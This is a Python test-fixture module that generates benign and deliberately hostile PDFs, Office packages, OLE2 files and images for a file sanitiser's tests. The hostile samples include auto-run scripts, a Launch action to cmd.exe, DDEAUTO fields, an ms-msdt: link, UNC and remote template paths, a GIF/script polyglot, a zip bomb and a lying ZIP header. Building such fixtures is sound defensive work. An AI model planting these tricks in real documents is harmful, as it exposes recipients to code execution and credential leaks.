"""Files of every kind, made by code: true ones, and one hostile one for each trick."""

from io import BytesIO
from PIL import Image
from tests.pdfs import PDF
from tests.pdfs import pdf
import pikepdf
import struct
import zipfile
import zlib


EXIF_MAKE, EXIF_GPS, EXIF_ORIENTATION = 0x010F, 0x8825, 0x0112
OWNER = "May anh cua Nguyen Van A"
#: What Windows puts in front of an OLE2 file.
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


# PDF


def saved(document, **options):
    out = BytesIO()
    document.save(out, **options)
    return out.getvalue()


def packed(**catalogue):
    """A PDF whose objects all lie in compressed object streams."""
    with pikepdf.open(BytesIO(PDF)) as document:
        for name, value in catalogue.items():
            document.Root[f"/{name}"] = document.make_indirect(value)
        return saved(document, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def with_password(user="bimat", owner="chu"):
    with pikepdf.open(BytesIO(PDF)) as document:
        return saved(document, encryption=pikepdf.Encryption(user=user, owner=owner))


def attached():
    with pikepdf.open(BytesIO(PDF)) as document:
        document.attachments["a.exe"] = b"MZ"
        return saved(document)


def signed():
    """A PDF with the dictionary of a signature, as it stands after signing."""
    field = (
        b"<</Type/Annot/Subtype/Widget/FT/Sig/T(ky)/Rect[0 0 0 0]/V<</Type/Sig"
        b"/Filter/Adobe.PPKLite/ByteRange[0 10 20 30]/Contents<00>>>>>"
    )
    return pdf(b"/AcroForm<</SigFlags 3/Fields[4 0 R]>>", field)


SCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"
#: Trick -> PDF; each is refused for what it does.
ACTIVE_PDFS = {
    "script when opened": pdf(b"/OpenAction" + SCRIPT),
    "name in hexadecimal": pdf(b"/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>"),
    "named script": pdf(b"/Names<</JavaScript<</Names[(a) 4 0 R]>>>>", SCRIPT),
    "script in an object stream": packed(
        Hidden=pikepdf.Dictionary(
            S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")
        )
    ),
    "script of a field": pdf(b"", b"<</FT/Tx/T(a)/AA<</K" + SCRIPT + b">>>>"),
    "script of a page": pdf(
        page=b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/AA<</O" + SCRIPT + b">>>>"
    ),
    "script behind a turn of the page": pdf(
        b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(http://x.example)>>>>"
    ),
    "printing by itself": pdf(b"/OpenAction<</S/Named/N/Print>>"),
    "program": pdf(b"", b"<</Subtype/Link/A<</S/Launch/F(cmd.exe)>>>>"),
    "sending": pdf(b"", b"<</A<</S/SubmitForm/F(http://x.example)>>>>"),
    "reading in": pdf(b"", b"<</A<</S/ImportData/F(a.fdf)>>>>"),
    "other file": pdf(b"", b"<</A<</S/GoToR/F(b.pdf)/D[0/Fit]>>>>"),
    "embedded file's page": pdf(b"", b"<</A<</S/GoToE/D(a)/T<</R/C/N(a)>>>>>>"),
    "form of XML": pdf(b"/AcroForm<</XFA 4 0 R/Fields[]>>", b"<<>>"),
    "embedded file": attached(),
    "portfolio": pdf(b"/Collection<<>>"),
    "film": pdf(b"", b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>"),
    "address that runs": pdf(b"", b"<</A<</S/URI/URI(javascript:alert(1))>>>>"),
    "address of a file server, in mixed signs": pdf(
        b"", b"<</A<</S/URI/URI(/\\\\x/y)>>>>"
    ),
    "address of a file server": pdf(b"", b"<</A<</S/URI/URI(file://x/y)>>>>"),
    "objects behind the end": PDF + b"9 0 obj" + SCRIPT + b"endobj\n",
}
HARMLESS_PDFS = {
    "opens at a page": pdf(b"/OpenAction[3 0 R/Fit]"),
    "opens at a place": pdf(b"/OpenAction<</S/GoTo/D[3 0 R/Fit]>>"),
    "plain link": pdf(b"", b"<</Subtype/Link/A<</S/URI/URI(https://x.example)>>>>"),
    "font called JS": pdf(
        b"", b"<</Font<</JS 5 0 R>>>>", b"<</Type/Font/Subtype/Type1/BaseFont/Arial>>"
    ),
    "owner's password only": with_password(user=""),
    "object streams": packed(Lang=pikepdf.Array([])),
}


# packages


def package(*parts, **named):
    """A ZIP of (name, data) and of named parts."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as book:
        for name, data in (*parts, *named.items()):
            book.writestr(name, data)
    return out.getvalue()


ACTIVE_PDFS["archive behind the end"] = PDF + package(("a.js", "alert(1)"))

TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    "%s</Types>"
)
MAIN = "application/vnd.openxmlformats-officedocument.%s.main+xml"
KINDS = {
    "docx": ("word/document.xml", MAIN % "wordprocessingml.document"),
    "xlsx": ("xl/workbook.xml", MAIN % "spreadsheetml.sheet"),
    "pptx": ("ppt/presentation.xml", MAIN % "presentationml.presentation"),
}
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def office(kind, *parts, types="", body="<w/>", main=None):
    """A DOCX, XLSX or PPTX with more parts and content types."""
    name, content_type = KINDS[kind]
    content_type = main or content_type
    override = f'<Override PartName="/{name}" ContentType="{content_type}"/>'
    return package(
        ("[Content_Types].xml", TYPES % (override + types)), (name, body), *parts
    )


#: Places of a server of files, and of a drive of one's own.
FILE_SERVERS = (
    "file:///\\\\192.168.1.5\\a",
    "file:////x/a",
    "file:\\\\x\\a",
    "file:/\\x/a",
    "file://///x/a",
    "file:///%5c%5cx/a",
    " //x/a",
    "/\\x/a",
)
FILES_OF_A_DRIVE = (
    "file:///C:\\Users\\a\\Mau.dotx",
    "file:///D:/Mau%20cong%20van.dotx",
    "C:\\Mau.dotx",
)


def relation(kind, target, outside=True, mode=""):
    if outside:
        mode += ' TargetMode="External"'
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        'relationships" xmlns:x="urn:x"><Relationship Id="r1" '
        f'{mode} Type="http://schemas.openxmlformats.org/'
        f'officeDocument/2006/relationships/{kind}" Target="{target}"/>'
        "</Relationships>"
    )


def related(kind, target, outside=True, office_kind="docx", *parts, mode=""):
    main = KINDS[office_kind][0]
    folder, name = main.split("/")
    relations = relation(kind, target, outside, mode)
    return office(office_kind, (f"{folder}/_rels/{name}.rels", relations), *parts)


def fields(*pieces):
    """A DOCX with a field whose code is cut into pieces."""
    runs = "".join(f"<w:r><w:instrText>{p}</w:instrText></w:r>" for p in pieces)
    return office("docx", body=f'<w:document xmlns:w="{WORD}">{runs}</w:document>')


#: Trick -> (kind, bytes).
ACTIVE_PACKAGES = {
    "macros": ("docx", office("docx", ("word/vbaProject.bin", "x"))),
    "macros in capitals and backslashes": (
        "docx",
        office("docx", ("word\\VBAPROJECT.BIN", "x")),
    ),
    "macros by type": (
        "docx",
        office(
            "docx",
            ("word/other.BIN", "x"),
            types='<Default Extension="bin" '
            'ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
    ),
    "old macros of Excel": ("xlsx", office("xlsx", ("xl/macrosheets/s.xml", "<x/>"))),
    "controls": ("docx", office("docx", ("word/activeX/activeX1.xml", "<x/>"))),
    "object": ("docx", office("docx", ("word/embeddings/oleObject1.bin", OLE))),
    "document in a document": (
        "docx",
        office("docx", ("word/embeddings/a.docx", office("docx"))),
    ),
    "chart with macros": (
        "docx",
        office(
            "docx",
            (
                "word/embeddings/Microsoft_Excel_Sheet1.xlsx",
                office("xlsx", ("xl/vbaProject.bin", "x")),
            ),
        ),
    ),
    "buttons": ("docx", office("docx", ("customUI/customUI14.xml", "<x/>"))),
    "add-in": ("docx", office("docx", ("word/webextensions/a.xml", "<x/>"))),
    "template from outside": ("docx", related("attachedTemplate", "http://x/a.dotm")),
    "object from outside": ("docx", related("oleObject", "http://x.example/x.html!")),
    "picture from outside": ("docx", related("image", "http://x.example/a.png")),
    "frame": ("docx", related("frame", "http://x.example/")),
    "other chunk": ("docx", related("aFChunk", "afchunk.htm", outside=False)),
    "link to a program": ("docx", related("hyperlink", "ms-msdt:/id")),
    "link to a file server": ("docx", related("hyperlink", "\\\\x\\share")),
    "link to a file server, as address": ("docx", related("hyperlink", "file://x/y")),
    **{
        f"link to {address}": ("docx", related("hyperlink", address))
        for address in FILE_SERVERS
    },
    **{
        f"template of {address}": ("docx", related("attachedTemplate", address))
        for address in (*FILE_SERVERS, "http://x.example/C:/a.dotx", "a.dotx")
    },
    "decoy beside the mode": (
        "docx",
        related("image", "http://x/a.png", mode='x:TargetMode="Internal"'),
    ),
    "decoy beside the mode, in small letters": (
        "docx",
        related("image", "http://x/a.png", mode='targetMode="Internal"'),
    ),
    "decoy beside the type": (
        "docx",
        related("oleObject", "a.bin", False, mode='x:Type="a/image"'),
    ),
    "package elsewhere": (
        "docx",
        related("package", "media/a.docx", False, "docx", ("word/media/a.docx", b"PK")),
    ),
    "workbook with macros elsewhere": (
        "pptx",
        related(
            "package",
            "/ppt/media/../media/a.xlsx",
            False,
            "pptx",
            (
                "ppt/media/a.xlsx",
                office("xlsx", ("xl/vbaProject.bin", "x")),
            ),
        ),
    ),
    "workbook from outside": (
        "xlsx",
        related("externalLink", "externalLinks/e.xml", False, "xlsx"),
    ),
    "data from outside": ("xlsx", office("xlsx", ("xl/connections.xml", "<x/>"))),
    "program by a field": ("docx", fields(' DDEAUTO c:\\\\windows "calc" ')),
    "program by a cut field": ("docx", fields(" DD", "E", "AUTO c:\\\\windows")),
    "program by a slide": (
        "pptx",
        office(
            "pptx",
            (
                "ppt/slides/slide1.xml",
                '<s><hlinkClick action="ppaction://program?file=cmd"/></s>',
            ),
        ),
    ),
    "program before the package": ("docx", b"PK\x03\x04MZ" + office("docx")),
    "definitions of its own": (
        "docx",
        office(
            "docx",
            body=f'<!DOCTYPE x><w:document xmlns:w="{WORD}">'
            "<w:instrText>PAGE</w:instrText></w:document>",
        ),
    ),
}
HARMLESS_PACKAGES = {
    "plain": ("docx", office("docx")),
    "workbook": ("xlsx", office("xlsx")),
    "slides": ("pptx", office("pptx")),
    "links": ("docx", related("hyperlink", "https://thads.example/a?b=c")),
    "link to a mailbox": ("docx", related("hyperlink", "mailto:a@thads.example")),
    "link in the folder": ("docx", related("hyperlink", "../ke-hoach.docx")),
    **{
        f"link to {address}": ("docx", related("hyperlink", address))
        for address in (*FILES_OF_A_DRIVE, "file:///D:/a/b.odt", "http://x//y")
    },
    **{
        f"template of {address}": ("docx", related("attachedTemplate", address))
        for address in FILES_OF_A_DRIVE
    },
    "mode said twice": (
        "docx",
        related("hyperlink", "http://x/", mode='x:TargetMode="External"'),
    ),
    "workbook elsewhere": (
        "docx",
        related(
            "package",
            "media/a.xlsx",
            False,
            "docx",
            ("word/media/a.xlsx", office("xlsx")),
        ),
    ),
    "page number": ("docx", fields(" PAGE ", " NUMPAGES ")),
    "chart": (
        "docx",
        office("docx", ("word/embeddings/Microsoft_Sheet.xlsx", office("xlsx"))),
    ),
    "backslashes": (
        "xlsx",
        package(
            ("[Content_Types].xml", "<Types/>"),
            ("xl\\workbook.xml", "<workbook/>"),
            ("xl\\worksheets\\sheet1.xml", "<x/>"),
        ),
    ),
}


def bomb():
    return office("docx", ("word/a.xml", b"0" * (40 * 2**20)))


def lying():
    """A package whose directory says a part is smaller than it is."""
    data = office("docx", ("word/_rels/document.xml.rels", relation("x", "y") * 50))
    size = len(relation("x", "y") * 50)
    return data.replace(struct.pack("<I", size), struct.pack("<I", size // 2))


def odt(content="<x/>", *parts, kind="text"):
    return package(
        ("mimetype", f"application/vnd.oasis.opendocument.{kind}"),
        ("content.xml", content),
        *parts,
    )


# OLE2


def ole(*streams):
    """A compound file with empty streams of these names, as far as its directory."""

    def entry(name, kind, child=0xFFFFFFFF, right=0xFFFFFFFF):
        raw = (name + "\0").encode("utf-16-le")
        head = raw.ljust(64, b"\0") + struct.pack("<HBB", len(raw), kind, 1)
        links = struct.pack("<III", 0xFFFFFFFF, right, child)
        return head + links + b"\0" * 36 + struct.pack("<IQ", 0xFFFFFFFE, 0)

    count = len(streams)
    entries = [entry("Root Entry", 5, child=1 if count else 0xFFFFFFFF)]
    for number, name in enumerate(streams, start=1):
        following = number + 1 if number < count else 0xFFFFFFFF
        entries.append(entry(name, 2, right=following))
    while len(entries) % 4:
        entries.append(b"\0" * 68 + b"\xff" * 12 + b"\0" * 48)
    directory = b"".join(entries)
    sectors = len(directory) // 512
    table = [0xFFFFFFFD, *range(2, sectors + 1), 0xFFFFFFFE]
    table += [0xFFFFFFFF] * (128 - len(table))
    head = OLE + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
    head += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    head += struct.pack("<I", 0) + b"\xff" * 432
    return head + struct.pack("<128I", *table) + directory


# pictures


def drawn(size=(60, 40)):
    image = Image.new("RGB", size, "#7a1820")
    image.paste("#eec94a", (0, 0, size[0] // 2, size[1] // 2))
    return image


def picture(kind="JPEG", size=(60, 40), **options):
    out = BytesIO()
    drawn(size).save(out, kind, **options)
    return out.getvalue()


def photograph(kind="JPEG", size=(60, 40), orientation=1, **options):
    """A picture as a phone takes it: with maker and place, and how it was held."""
    image = drawn(size)
    exif = image.getexif()
    exif[EXIF_MAKE] = OWNER
    exif.get_ifd(EXIF_GPS)[2] = (21.0, 1.0, 42.5)
    if orientation != 1:
        exif[EXIF_ORIENTATION] = orientation
    out = BytesIO()
    image.save(out, kind, exif=exif.tobytes(), **options)
    return out.getvalue()


def heic(orientation=1, size=(60, 40)):
    import pillow_heif

    pillow_heif.register_heif_opener()
    return photograph("HEIF", size, orientation)


def enormous():
    """A PNG that says it is 60,000 by 60,000 pixels."""
    data = picture("PNG")
    head = struct.pack(">II", 60_000, 60_000)
    chunk = b"IHDR" + head + data[24:29]
    return data[:12] + chunk + struct.pack(">I", zlib.crc32(chunk)) + data[33:]


#: A picture that is a script, read as one.
SCRIPTED_GIF = b"GIF89a/*" + picture("GIF")[8:] + b"*/=1;alert(1)//"


def opened(data):
    image = Image.open(BytesIO(data))
    image.load()
    return image
